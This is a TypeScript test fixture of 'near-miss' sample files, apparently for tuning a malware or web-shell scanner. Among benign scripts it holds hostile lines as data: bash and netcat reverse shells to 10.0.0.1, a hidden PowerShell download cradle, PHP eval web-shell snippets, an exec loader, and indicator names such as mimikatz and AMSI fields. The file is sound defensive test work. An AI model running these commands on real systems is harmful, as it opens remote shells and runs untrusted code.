import { prose, whole } from './fragments.ts'

/** Harmless files that resemble the samples: programs and settings with the same words, and texts that quote them. */
export const nearMisses: Record<string, string | Uint8Array> = {
  'form.php': whole(
    '<?php\nif (isset($_PO¦ST["name"])) { $name = htmlspecialchars($_PO¦ST["name"]); }\n$data = gzin¦flate(base64_¦decode($x));\n',
  ),
  'template.php': whole(
    '<?php $out = ev¦al($template); shell_¦exec("git status"); passt¦hru("ls"); proc_¦open("convert", [], $p);\n',
  ),
  'thumbnail.php': whole(
    '<?php\n$file = basename($_GE¦T["file"]);\nshell_¦exec("convert " . escapeshellarg($file) . " thumb.png");\n',
  ),
  'actions.php': whole(
    '<?php\n$action = $_PO¦ST["action"];\nif (in_array($action, ["start", "stop"], true)) { sys¦tem($commands[$action]); }\n',
  ),
  'about-php.md': whole(
    `# Web shells\n${prose(900)}\n\`\`\`php\n<?php ev¦al($_PO¦ST["x"]); ev¦al(gzin¦flate(base64_¦decode("")));\n\`\`\`\n`,
  ),
  'page.aspx': whole(
    '<%@ Page Language="C#"%><% var name = Requ¦est.Form["name"]; Response.Write(Server.HtmlEncode(name)); %>',
  ),
  'page.jsp': whole('<%@ page language="java" %><% String q = requ¦est.getParameter("q"); %>'),
  'runner.java': whole(
    'class R { void run(String c) throws Exception { Runtime.getRun¦time().exec(c).getInput¦Stream(); } }',
  ),
  'install-chocolatey.md': whole(
    "Run: Set-ExecutionPolicy Byp¦ass -Scope Process; ie¦x ((New-Object System.Net.Web¦Client).Download¦String('https://community.chocolatey.org/install.ps1'))",
  ),
  'install-tool.ps1': whole(
    'Invoke-WebReq¦uest https://example.org/tool.msi -OutFile $env:TEMP\\\\tool.msi\nStart-Proc¦ess msiexec -ArgumentList \'/i\', "$env:TEMP\\\\tool.msi" -Wait\n',
  ),
  'privacy.txt': whole(
    'We encrypt your data. Contact us by e-mail to correct or recover your data. We never publish it or pass it to a third party, except to law enforcement. Payment is by card; we guarantee your rights.',
  ),
  'about-cradles.md': whole(
    `${prose(3000)}power¦shell -no¦p -w hid¦den -c "IE¦X (New-Object Net.Web¦Client).Download¦String('http://host/a')"\n${prose(1000)}`,
  ),
  'encoded.ps1': whole('power¦shell -EncodedCommand ').concat(
    Buffer.from('Get-Date | Out-String', 'utf16le').toString('base64'),
  ),
  'about-amsi.md': whole(
    'The field amsi¦InitFailed of AmsiUtils is looked for by many rules, and so is Amsi¦ScanBuffer.',
  ),
  'interop.ps1': whole(
    'Add-Type -MemberDefinition \'[DllImport("kern¦el32")] static extern IntPtr Virtual¦Alloc(...);\' -Name N',
  ),
  'logon.vbs': whole('Set s = CreateObject("WScr¦ipt.Shell")\ns.Ru¦n "net use x: \\\\server\\share", 0\n'),
  'export.js': whole('var o = new ActiveXObject("ADO¦DB.Stream"); o.Save¦ToFile("report.csv");'),
  'page.html': whole('<html><scr¦ipt>document.title = "power¦shell"; window.clo¦se()</script></html>'),
  'backup.bat': whole('@ec¦ho off\r\nscht¦asks /create /tn backup /tr backup.exe\r\nattr¦ib +h +s x\r\n'),
  'install.sh': whole(
    '#!/bin/sh\nset -e\ncu¦rl -fsSL https://example.org/install.sh | s¦h\necho "0 3 * * * /usr/bin/backup" | cron¦tab -\n',
  ),
  'mail-by-socat.sh': whole(
    '#!/bin/sh\n# Usage: cat message.txt | so¦cat ex¦ec:"mail.sh user@example.org",fdin=3,fdout=4 tcp:mail.example.org:25\nread -r greeting <&3\necho "HELO $1" >&4\n',
  ),
  'cross-build.sh': whole(
    '#!/bin/sh\ncd /tmp\nfor a in mi¦ps arm¦7 mp¦sl; do wg¦et http://example.org/$a.tar; chm¦od +x $a; done\n',
  ),
  'about-reverse-shells.md': whole(
    `${prose(5000)}\nba¦sh -i >& /de¦v/tcp/10.0.0.1/4242 0>&¦1\nrm /tmp/f;mkf¦ifo /tmp/f;cat /tmp/f|/bin/s¦h -i 2>&1|n¦c 10.0.0.1 4242 >/tmp/f\n${prose(5000)}`,
  ),
  'port-check.sh': whole('#!/bin/bash\nif (echo > /de¦v/tcp/127.0.0.1/5432) 2>&1; then echo up; fi\n'),
  'server.py': whole(
    'import os, socket\ns = socket.soc¦ket()\ns.conn¦ect(("127.0.0.1", 80))\nos.du¦p2(s.fileno(), 9)\n',
  ),
  'client.pl': whole(
    'use Soc¦ket;\nsocket(S, PF_INET, SOCK_STREAM, getproto¦byname("tcp"));\nopen(STD¦OUT, ">&", $log);\n',
  ),
  'client.ps1': whole('$c = New-Object System.Net.Soc¦kets.TCPClient("a", 1); $s = $c.Get¦Stream(); $s.Flu¦sh()'),
  'loader.py': whole(
    "import base64, zlib\ndata = zlib.decom¦press(base64.b64decode(text))\nex¦ec(compile(data, 'x', 'exec'))\n",
  ),
  'pools.json': whole('{ "pool¦s": [{ "url": "postgres://db", "user": "x" }], "keepalive": true }'),
  'about-mining.md': whole(
    'Miners speak strat¦um+tcp:// to a pool; xm¦rig has the option --donate-¦level and runs with no¦hup.',
  ),
  'proxy.sh': whole('#!/bin/bash\nmkf¦ifo /tmp/back\nn¦c -l 8080 < /tmp/back | n¦c 127.0.0.1 80 > /tmp/back\n'),
  'http.sh': whole('#!/bin/bash\nexec 3<>/de¦v/tcp/127.0.0.1/80\nprintf "GET / HTTP/1.0\\r\\n\\r\\n" >&3\ncat <&3\n'),
  'news.txt': whole(
    'The city says that its fi¦les have been encrypted by criminals who ask for bit¦coin; backups exist.',
  ),
  'backup-policy.md': whole(
    'Attackers run vssad¦min delete shad¦ows /all and wbad¦min delete catalog: keep copies elsewhere. recovery¦enabled no',
  ),
  'report.bas': whole('Attribute VB_Name = "Report"\r\nSub Auto¦Open()\r\nMsgBox "Welcome"\r\nEnd Sub\r\n'),
  'about-macros.txt': whole(
    'Sub Auto¦Open and Docu¦ment_Open start by themselves; look for URLDown¦loadToFile, WScr¦ipt.Shell and power¦shell -en¦c.',
  ),
  'equation.rtf': whole('{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000457175¦6174696f6e2e3300}}}'),
  'field.xml': whole(
    '<?xml version="1.0"?><w:document><w:instr¦Text>DDE¦AUTO excel "book.xlsx" "R1C1"</w:instrText></w:document>',
  ),
  'help.html': whole('<html><p>The protocol ms-ms¦dt: opens the support tool.</p></html>'),
  'editor.lnk': Buffer.concat([
    Buffer.from('4c0000000114020000000000c000000000000046', 'hex'),
    Buffer.alloc(56),
    Buffer.from('..\\notepad.exe C:\\notes.txt', 'utf16le'),
  ]),
  'packed-with-upx.exe': Buffer.from(`MZ${'\x01'.repeat(300)}UPX0\0\0\0\0UPX1\0\0\0\0UPX!`, 'latin1'),
  'debugger.exe': Buffer.from(
    whole(`MZ${'\x01'.repeat(300)}WriteProcess¦Memory\0CreateRemote¦Thread\0Virtual¦AllocEx\0`),
    'latin1',
  ),
  'about-tools.txt': whole(
    'Reflective¦Loader, bea¦con.dll, mimi¦katz, gentil¦kiwi, sekur¦lsa, KILL¦ATTK and LOLNO¦GTFO are names to look for.',
  ),
  'about-shellcode.txt': whole('It begins with 0xfc,0x48,¦0x83,0xe4,0xf0,0xe8 as a rule.'),
}
